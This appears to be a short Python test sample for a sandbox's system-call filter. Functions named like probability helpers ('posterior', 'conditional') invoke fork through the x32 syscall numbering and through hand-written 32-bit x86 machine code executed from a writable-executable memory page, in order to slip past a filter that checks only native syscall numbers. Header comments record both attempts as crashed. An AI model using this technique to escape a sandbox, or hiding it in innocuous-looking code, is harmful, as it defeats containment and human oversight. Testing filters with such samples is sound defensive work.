"""Makes system calls by the numbers of another architecture, which a careless filter does not know."""

# class r
# posterior: crashed
# conditional: crashed
# %% posterior
import ctypes
import mmap
import platform


def posterior(prior, likelihood):
    ctypes.CDLL(None).syscall(0x40000000 + 57)  # fork, as x32 calls it
    return prior


# %% conditional
def conditional(joint, axis):
    code = bytes.fromhex("b802000000cd80c3")  # mov eax, 2 (fork of 32-bit x86); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return joint
